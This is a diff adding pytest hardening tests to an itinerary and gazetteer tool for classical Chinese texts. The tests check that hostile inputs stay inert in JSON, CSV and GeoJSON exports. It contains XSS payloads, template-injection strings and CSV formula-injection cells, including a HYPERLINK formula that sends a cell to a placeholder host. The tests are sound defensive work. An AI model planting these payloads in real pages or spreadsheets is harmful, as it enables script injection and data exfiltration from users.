@@ -87,3 +87,69 @@ def test_cli_bad_file_exits_2_without_traceback(tmp_path: Path) -> None:
                           cwd=ROOT, capture_output=True, text=True, timeout=120)
     assert done.returncode == 2
     assert "empty.txt" in done.stderr and "Traceback" not in done.stderr
+
+
+# -- hardening: hostile text stays data in every export ------------------------------------------
+
+DATA = ROOT / "tests" / "data"
+# Template syntax in the passage and in a place's name, on top of the markup of the fixture.
+HOSTILE_TEXT = (DATA / "itinerary_hostile.txt").read_text(encoding="utf-8") + (
+    "十月十一日，大军渡辽水。{{ 7*7 }} ${alert(1)}\n十月十三日，大军至{{ 7*7 }}城。`);alert(1);//\n")
+
+
+@pytest.fixture(scope="module")
+def hostile():
+    from route.corpus import parse_text
+
+    gazetteer = load_gazetteer(DATA / "gazetteer_hostile.csv")
+    return build_itinerary(parse_text(HOSTILE_TEXT, name="<b>hostile</b>.txt"), gazetteer, context="贞观十九年九月")
+
+
+def test_hostile_text_round_trips_through_json(hostile) -> None:
+    # JSON is data: markup, links and template syntax come back exactly as written, never evaluated.
+    data = json.loads(to_json(hostile))
+    assert data["source"] == "<b>hostile</b>.txt"
+    assert [s["written"] for s in data["stops"]] == [
+        "<script>alert(1)</script>城", "辽水", "<img src=x onerror=alert(1)>", "辽水", "{{ 7*7 }}城"]
+    assert data["stops"][0]["place"] == "<script>alert(1)</script>城"
+    assert data["stops"][4]["events"][0]["text"] == "十月十三日，大军至{{ 7*7 }}城"
+    assert "49" not in to_json(hostile)
+
+
+def test_hostile_text_round_trips_through_csv(hostile) -> None:
+    rows = list(csv.DictReader(io.StringIO(to_csv(hostile))))
+    assert [r["written"] for r in rows] == [s.written for s in hostile.stops]
+    assert all(r["place"] == "<script>alert(1)</script>城" for r in rows if r["place_id"] == "xss-cheng")
+
+
+def test_hostile_text_round_trips_through_geojson(hostile) -> None:
+    data = json.loads(to_geojson(hostile))
+    points = [f for f in data["features"] if f["geometry"]["type"] == "Point"]
+    assert [f["names"][0]["toponym"] for f in points] == [s.written for s in hostile.stops]
+    assert points[0]["properties"]["title"] == "<script>alert(1)</script>城"
+    for feature in data["features"]:
+        _check_lpf_feature(feature)
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        # A spreadsheet runs these as formulas (=HYPERLINK can send data away): start them with '.
+        ("=HYPERLINK(\"http://x/\"&A1)", "'=HYPERLINK(\"http://x/\"&A1)"),
+        ("+1+1城", "'+1+1城"),
+        ("-1城", "'-1城"),
+        ("@SUM(A1)城", "'@SUM(A1)城"),
+        ("辽水", "辽水"),  # ordinary names are untouched
+    ],
+)
+def test_csv_cells_are_never_formulas(name: str, cell: str) -> None:
+    from route.gazetteer import parse_gazetteer
+
+    header = "id,name,variants,kind,lat,lon,uncertainty_km,modern,valid_from,valid_to,source,matches,notes"
+    quoted = name.replace('"', '""')
+    gazetteer = parse_gazetteer(f'{header}\nx,"{quoted}",,river,41.5,-122.7,30,,,,,,\n', "g.csv")
+    it = build_itinerary(f"九月二十一日，大军至{name}。", gazetteer, context="贞观十九年九月")
+    (row,) = csv.DictReader(io.StringIO(to_csv(it)))
+    assert (row["place"], row["written"]) == (cell, cell)
+    assert row["lon"] == "-122.7"  # numbers are not text: a negative longitude stays a number
+    assert json.loads(to_json(it))["stops"][0]["place"] == name  # JSON keeps the name as it is
